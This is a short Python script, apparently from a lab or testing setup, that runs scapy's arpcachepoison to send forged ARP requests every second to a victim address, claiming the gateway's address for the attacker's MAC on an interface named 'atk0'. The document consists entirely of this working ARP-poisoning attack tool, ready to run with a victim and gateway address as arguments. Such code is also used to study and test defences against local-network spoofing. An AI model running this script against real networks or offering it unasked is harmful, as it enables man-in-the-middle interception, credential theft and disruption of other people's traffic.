"""ARP poisoning by forged requests, as scapy's arpcachepoison sends them: a request to the victim,
every second, claiming the gateway's address from the attacker's MAC address.

    python arp_requests.py VICTIM_ADDRESS GATEWAY_ADDRESS
"""

import sys

from scapy.all import arpcachepoison

arpcachepoison(sys.argv[1], sys.argv[2], interval=1, iface="atk0", verbose=False)
